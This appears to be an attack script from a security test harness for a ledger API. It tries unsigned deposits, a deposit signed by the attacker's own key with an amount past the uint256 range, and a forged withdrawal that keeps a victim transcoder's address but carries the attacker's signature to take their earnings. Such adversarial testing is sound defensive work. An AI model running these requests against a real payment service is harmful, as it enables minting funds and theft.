// Attack: mint money in the ledger and move someone else's, from its own process and key. Deposits without
// credentials, signed by its own key, with an amount past uint256 both ways, and withdraws the honest
// transcoder's earnings with a signature of its own.

import { randomIdentity } from '../../../protocol/identity.ts';
import { OrchestratorClient } from '../../../protocol/orchestrator-client.ts';
import { signRequest } from '../../../protocol/signed-request.ts';
import { withdrawalRequest } from '../../../protocol/withdrawal.ts';
import { attackArgs, attackerFetch, attempt, finish, rawRequest } from '../../support/attacker.ts';

const args = attackArgs<{ orchestrator: string; victim: string }>();
const attacker = randomIdentity();
const TWICE_MAX = (2n * ((1n << 256n) - 1n)).toString();
const deposits = `${args.orchestrator}/api/ledger/deposits`;
const json = (value: unknown) => new TextEncoder().encode(JSON.stringify(value));

await attempt('unsigned', () => rawRequest(deposits, { method: 'POST', headers: { 'content-type': 'application/json' }, body: json({ address: attacker.address, amount: TWICE_MAX }) }));
await attempt('unsigned-small', () => rawRequest(deposits, { method: 'POST', headers: { 'content-type': 'application/json' }, body: json({ address: attacker.address, amount: '1000000000000000000' }) }));
await attempt('self-signed', async () => {
  await new OrchestratorClient(args.orchestrator, { identity: attacker, fetch: attackerFetch }).deposit(attacker.address, 10n ** 18n);
});
await attempt('self-signed-huge', () => {
  const body = json({ address: attacker.address, amount: TWICE_MAX });
  return rawRequest(deposits, { method: 'POST', headers: { 'content-type': 'application/json', ...signRequest(attacker, { method: 'POST', path: '/api/ledger/deposits', body, timestamp: Date.now() }) }, body });
});
await attempt('steal-earnings', async () => {
  // The victim's address, the attacker's signature: the ledger checks whose key signed.
  const forged = withdrawalRequest({ address: attacker.address, amount: 1n, to: attacker.address, timestamp: Date.now() }, attacker.privateKey);
  return rawRequest(`${args.orchestrator}/api/ledger/withdrawals`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: json({ ...forged, address: args.victim }) });
});

finish({ attacker: attacker.address });
